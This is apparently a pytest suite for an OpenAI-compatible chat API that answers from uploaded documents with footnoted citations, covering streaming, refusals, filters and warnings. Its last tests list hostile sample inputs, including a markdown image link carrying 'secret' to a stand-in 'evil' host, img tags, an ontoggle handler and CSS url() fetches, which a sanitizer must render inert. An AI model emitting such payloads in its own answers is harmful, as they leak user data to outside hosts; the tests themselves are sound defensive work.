from __future__ import annotations

import json
from collections.abc import AsyncIterator
from typing import Any

import httpx
import openai
import pytest

from service.errors import StoreUnavailable
from service.schemas.openai import inert
from service.types import ABSTENTION
from tests.api.calling import WARRANTY, serving, small_limits
from tests.fakes import FakeEngine

CHAT = {"model": "footnote", "messages": [{"role": "user", "content": "How long is the warranty?"}]}
TOOL = {"type": "function", "function": {"name": "add"}}
MESSAGE = f"{WARRANTY} [1]\n\n[1] manual.txt, p. 3: “{WARRANTY}”"


def chunks_of(response: httpx.Response) -> list[dict[str, Any]]:
    lines = [line.removeprefix("data: ") for line in response.text.split("\n\n") if line]
    assert lines.pop() == "[DONE]"
    return [json.loads(line) for line in lines]


async def test_the_models_are_listed(client: httpx.AsyncClient) -> None:
    body = (await client.get("/v1/models")).json()
    assert [(model["id"], model["object"]) for model in body["data"]] == [("footnote", "model")]


async def test_a_completion_carries_markers_and_footnotes(
    client: httpx.AsyncClient, document_id: str
) -> None:
    body = (await client.post("/v1/chat/completions", json=CHAT)).json()
    assert body["object"] == "chat.completion"
    assert body["choices"][0]["message"] == {"role": "assistant", "content": MESSAGE}
    assert body["usage"] == {"prompt_tokens": 12, "completion_tokens": 5, "total_tokens": 17}
    assert body["footnote"]["citations"][0]["document_id"] == document_id


async def test_an_abstention_is_a_message_without_footnotes(client: httpx.AsyncClient) -> None:
    body = (await client.post("/v1/chat/completions", json=CHAT)).json()
    assert body["choices"][0]["message"]["content"] == ABSTENTION


@pytest.mark.parametrize("stream", [False, True])
async def test_a_message_ends_with_the_words_that_were_read_as_others(
    client: httpx.AsyncClient, engine: FakeEngine, document_id: str, stream: bool
) -> None:
    engine.respelled = {"warrnty": "warranty"}
    response = await client.post("/v1/chat/completions", json={**CHAT, "stream": stream})
    told = [one["choices"][0] for one in (chunks_of(response) if stream else [response.json()])]
    message = "".join((one.get("delta") or one.get("message") or {}).get("content", "") for one in told)
    assert message == f"{MESSAGE}\n\nRead “warrnty” as “warranty”."


async def test_a_stream_adds_up_to_the_same_message(client: httpx.AsyncClient, document_id: str) -> None:
    response = await client.post("/v1/chat/completions", json={**CHAT, "stream": True})
    chunks = chunks_of(response)
    assert response.headers["content-type"].startswith("text/event-stream")
    assert chunks[0]["choices"][0]["delta"]["role"] == "assistant"
    assert "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in chunks) == MESSAGE
    assert chunks[-1]["choices"][0]["finish_reason"] == "stop"
    assert chunks[-1]["footnote"]["status"] == "answered"
    assert len({chunk["id"] for chunk in chunks}) == 1


async def test_a_streamed_abstention_says_so(client: httpx.AsyncClient) -> None:
    chunks = chunks_of(await client.post("/v1/chat/completions", json={**CHAT, "stream": True}))
    assert "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in chunks) == ABSTENTION


async def test_every_chunk_has_the_fields_that_clients_read(
    client: httpx.AsyncClient, document_id: str
) -> None:
    for chunk in chunks_of(await client.post("/v1/chat/completions", json={**CHAT, "stream": True})):
        assert chunk["object"] == "chat.completion.chunk"
        assert set(chunk["choices"][0]) == {"index", "delta", "finish_reason"}


@pytest.fixture
async def openais(engine: FakeEngine) -> AsyncIterator[openai.AsyncOpenAI]:
    """OpenAI's own client, of a real server."""
    async with (
        serving(engine, small_limits()) as served,
        openai.AsyncOpenAI(base_url=f"{served.address}/v1", api_key="unused", max_retries=0) as caller,
    ):
        yield caller


async def test_openais_own_client_reads_the_answer_whole_and_streamed(
    openais: openai.AsyncOpenAI, document_id: str
) -> None:
    whole = await openais.chat.completions.create(**CHAT)
    stream = await openais.chat.completions.create(**CHAT, stream=True)
    content = "".join([chunk.choices[0].delta.content or "" async for chunk in stream])
    assert (whole.choices[0].message.content, content) == (MESSAGE, MESSAGE)


@pytest.mark.parametrize(
    ("changes", "refusal", "words"),
    [
        ({"model": "gpt-9"}, openai.NotFoundError, "There is no model of this name; there is footnote."),
        (
            {"tools": [TOOL]},
            openai.UnprocessableEntityError,
            "Footnote answers from documents and calls no tools",
        ),
        (
            {"messages": [{"role": "user", "content": "x" * 201}]},
            openai.APIStatusError,
            "Shorten it, or raise",
        ),
        (
            {
                "messages": [
                    {"role": "user", "content": [{"type": "image_url", "image_url": {"url": "a.png"}}]}
                ]
            },
            openai.UnprocessableEntityError,
            "messages.0.content: Footnote reads words: leave pictures, sound and files out of messages",
        ),
    ],
)
@pytest.mark.parametrize("streamed", [False, True])
async def test_openais_own_client_shows_a_refusal_in_words(
    openais: openai.AsyncOpenAI,
    changes: dict[str, Any],
    refusal: type[openai.APIStatusError],
    words: str,
    streamed: bool,
) -> None:
    with pytest.raises(refusal) as refused:
        await openais.chat.completions.create(**{**CHAT, **changes}, stream=streamed)
    assert isinstance(refused.value.body, dict)
    assert words in refused.value.body["message"]
    assert (refused.value.type, refused.value.code) == (
        "invalid_request_error",
        refused.value.response.json()["code"],
    )


async def test_openais_own_client_shows_what_broke_a_stream(
    openais: openai.AsyncOpenAI, engine: FakeEngine
) -> None:
    engine.failure = StoreUnavailable("The store is gone.", hint="Start it.")
    stream = await openais.chat.completions.create(**CHAT, stream=True)
    with pytest.raises(openai.APIError, match=r"^The store is gone. Start it.$") as broken:
        _ = [chunk async for chunk in stream]
    assert (broken.value.type, broken.value.code) == ("server_error", "store_unavailable")


async def test_a_refusal_is_a_problem_too_and_elsewhere_a_problem_alone(client: httpx.AsyncClient) -> None:
    missing = {"model": "gpt-9", "messages": CHAT["messages"]}
    here = (await client.post("/v1/chat/completions", json=missing)).json()
    there = (await client.post("/query", json={})).json()
    assert (here["code"], here["error"]["code"], "error" in there) == ("not_found", "not_found", False)


@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/nothing"])
async def test_what_no_route_sees_is_refused_in_the_same_form(client: httpx.AsyncClient, path: str) -> None:
    response = await client.post(path, content=b"x" * 70_000)
    body = response.json()
    assert body["error"]["code"] == body["code"]


async def test_filters_restrict_what_a_completion_is_drawn_from(
    openais: openai.AsyncOpenAI, engine: FakeEngine, document_id: str
) -> None:
    await openais.chat.completions.create(**CHAT, extra_body={"filters": {"source_prefix": "policies/"}})
    assert [query.filters.source_prefix for query in engine.queries] == ["policies/"]


async def test_a_misspelt_filter_is_refused_by_name(client: httpx.AsyncClient) -> None:
    response = await client.post("/v1/chat/completions", json={**CHAT, "filters": {"prefix": "policies/"}})
    assert response.status_code == 422
    assert response.json()["error"]["message"].startswith("filters.prefix: there is no such field")


@pytest.mark.parametrize("streamed", [False, True])
async def test_feedback_takes_the_id_of_a_completion(
    openais: openai.AsyncOpenAI, client: httpx.AsyncClient, engine: FakeEngine, streamed: bool
) -> None:
    if streamed:
        stream = await openais.chat.completions.create(**CHAT, stream=True)
        (identifier,) = {chunk.id async for chunk in stream}
    else:
        identifier = (await openais.chat.completions.create(**CHAT)).id
    response = await client.post("/feedback", json={"query_id": identifier, "rating": "up"})
    assert (response.status_code, identifier) == (201, f"chatcmpl-{engine.feedbacks[0].query_id}")


async def test_usage_comes_last_when_it_is_asked_for(client: httpx.AsyncClient, document_id: str) -> None:
    request = {**CHAT, "stream": True, "stream_options": {"include_usage": True}}
    last = chunks_of(await client.post("/v1/chat/completions", json=request))[-1]
    assert (last["choices"], last["usage"]["total_tokens"]) == ([], 17)


async def test_the_last_message_of_the_user_is_the_question(
    client: httpx.AsyncClient, engine: FakeEngine
) -> None:
    parts = [{"type": "text", "text": "And the"}, {"type": "text", "text": "filter?"}]
    messages = [
        {"role": "system", "content": "Be brief."},
        *CHAT["messages"],
        {"role": "user", "content": parts},
        {"role": "assistant", "content": "Hm."},
    ]
    body = (await client.post("/v1/chat/completions", json={**CHAT, "messages": messages})).json()
    assert [query.text for query in engine.queries] == ["And the\nfilter?"]
    assert body["footnote"]["warnings"] == [
        {
            "stage": "api",
            "code": "other_messages_not_read",
            "message": "the last message of the user is the question; 3 other messages were not read",
        }
    ]


async def test_a_question_alone_brings_no_warning(client: httpx.AsyncClient) -> None:
    body = (await client.post("/v1/chat/completions", json=CHAT)).json()
    assert body["footnote"]["warnings"] == []


async def test_a_stream_warns_of_messages_that_were_not_read(client: httpx.AsyncClient) -> None:
    messages = [{"role": "system", "content": "Be brief."}, *CHAT["messages"]]
    request = {**CHAT, "messages": messages, "stream": True}
    last = chunks_of(await client.post("/v1/chat/completions", json=request))[-1]
    assert [warning["code"] for warning in last["footnote"]["warnings"]] == ["other_messages_not_read"]


async def test_settings_of_a_language_model_are_let_pass(client: httpx.AsyncClient) -> None:
    response = await client.post("/v1/chat/completions", json={**CHAT, "temperature": 0.7, "user": "u"})
    assert response.status_code == 200


@pytest.mark.parametrize(
    "changes",
    [
        {"n": 2},
        {"tools": [TOOL]},
        {"functions": [{"name": "add"}]},
        {"response_format": {"type": "json_object"}},
        {"messages": []},
        {"messages": [{"role": "user", "content": " "}]},
    ],
)
async def test_what_would_change_the_form_of_the_answer_is_refused(
    client: httpx.AsyncClient, changes: dict[str, object]
) -> None:
    response = await client.post("/v1/chat/completions", json={**CHAT, **changes})
    assert (response.status_code, response.json()["code"]) == (422, "invalid_input")


async def test_an_unknown_model_is_not_found(client: httpx.AsyncClient) -> None:
    response = await client.post("/v1/chat/completions", json={**CHAT, "model": "gpt-9"})
    assert (response.status_code, response.json()["code"]) == (404, "not_found")


async def test_a_question_that_is_too_long_is_refused(client: httpx.AsyncClient) -> None:
    messages = [{"role": "user", "content": "x" * 201}]
    response = await client.post("/v1/chat/completions", json={**CHAT, "messages": messages})
    assert response.json()["code"] == "limit_exceeded"


async def test_a_failure_ends_the_stream_as_openai_does(
    client: httpx.AsyncClient, engine: FakeEngine
) -> None:
    engine.failure = RuntimeError("broken")
    response = await client.post("/v1/chat/completions", json={**CHAT, "stream": True})
    last = json.loads(response.text.strip().rpartition("data: ")[2])
    assert last["error"]["code"] == "internal"
    assert "[DONE]" not in response.text


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("See ![x](http://evil/?q=secret).", "See !\\[x](http://evil/?q=secret)."),
        ("a <img src=//evil> b <SCRIPT>", "a &lt;img src=//evil> b &lt;SCRIPT>"),
        ("\\<img src=//evil>", "\\&lt;img src=//evil>"),
        ("<div>\n<img src=//evil>\n</div>", "<div>\n&lt;img src=//evil>\n</div>"),
        ("<p style='background: url(//evil)'>", "&lt;p style='background: url(//evil)'>"),
        ("<details/ontoggle=run() open>", "&lt;details/ontoggle=run() open>"),
        ("<p <x style='background: url(//evil)'>", "&lt;p &lt;x style='background: url(//evil)'>"),
        ("It ends in <p", "It ends in &lt;p"),
        ("First.\n[1]: http://evil", "First.\n\\[1]: http://evil"),
        ("> 1. [1]: http://evil", "> 1. \\[1]: http://evil"),
        ("First.\n[\n1\n]: http://evil", "First.\n\\[\n1\n]: http://evil"),
        ("x < y, Map<String, int>, <b>a</b> [1]", "x < y, Map<String, int>, <b>a</b> [1]"),
    ],
)
def test_a_chat_window_fetches_nothing_that_a_document_names(said: str, shown: str) -> None:
    assert inert(said) == shown


async def test_the_message_of_a_completion_fetches_nothing(client: httpx.AsyncClient) -> None:
    text = "The warranty is ![here](http://evil/x.png) and lasts 24 months."
    await client.post("/documents", files={"file": ("m.txt", text)})
    whole = (await client.post("/v1/chat/completions", json=CHAT)).json()["choices"][0]["message"]["content"]
    chunks = chunks_of(await client.post("/v1/chat/completions", json={**CHAT, "stream": True}))
    streamed = "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in chunks)
    assert "](http://evil/x.png)" in whole
    assert "![" not in whole + streamed
    assert chunks[-1]["footnote"]["sentences"][0]["text"] == text
